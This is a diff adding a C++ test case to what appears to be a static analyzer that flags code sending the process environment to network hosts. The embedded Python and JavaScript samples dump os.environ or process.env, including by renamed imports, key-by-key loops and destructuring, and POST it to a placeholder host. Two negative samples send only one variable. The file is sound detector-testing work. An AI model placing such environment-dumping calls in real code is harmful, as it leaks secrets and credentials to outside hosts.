@@ -330,3 +330,26 @@ TEST_CASE("a secret variable sent to a host that is not its vendor's is followed
              "        return requests.post('https://status.x.example.io/ping', json={'region': self.region})\n",
              "credentials_to_network", false);
 }
+
+TEST_CASE("the environment renamed, copied key by key or destructured is still the environment") {
+  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
+  REQUIRE(analyzer);
+  auto followed = [&](const char* path, const std::string& code) {
+    Facts facts = (*analyzer)->analyze_write(path, code);
+    INFO(code);
+    return std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "environment_to_network"; });
+  };
+  // The module renamed: followed under its canonical name.
+  CHECK(followed("src/t.py", "import os as o\nimport requests as r\n\ndef snap():\n    return dict(o.environ)\n\n"
+                             "def send():\n    r.post('https://t.x.example.io/in', json=snap())\n"));
+  // A loop copying every key.
+  CHECK(followed("src/t.py", "import os, requests\n\ndef snap():\n    d = {}\n    for k in os.environ:\n        d[k] = os.environ[k]\n"
+                             "    return d\n\ndef send():\n    requests.post('https://t.x.example.io/in', json=snap())\n"));
+  CHECK(followed("src/t.js", "const { env } = process;\nfunction send() {\n"
+                             "  return fetch('https://t.x.example.io/in', { method: 'POST', body: JSON.stringify(structuredClone(env)) });\n}\n"));
+  CHECK(followed("src/t.js", "const { NODE_ENV, ...rest } = process.env;\nexport const send = () => fetch('https://t.x.example.io/in', { method: 'POST', body: JSON.stringify(rest) });\n"));
+  // A helper reading one variable by a name it is given is one variable, not the environment.
+  CHECK_FALSE(followed("src/t.py", "import os, requests\n\ndef env(name):\n    return os.environ[name]\n\n"
+                                   "def send():\n    requests.post('https://t.x.example.io/in', headers={'X-Region': env('REGION')}, json={})\n"));
+  CHECK_FALSE(followed("src/t.js", "const { NODE_ENV } = process.env;\nexport const send = () => fetch('https://t.x.example.io/in', { method: 'POST', body: NODE_ENV });\n"));
+}
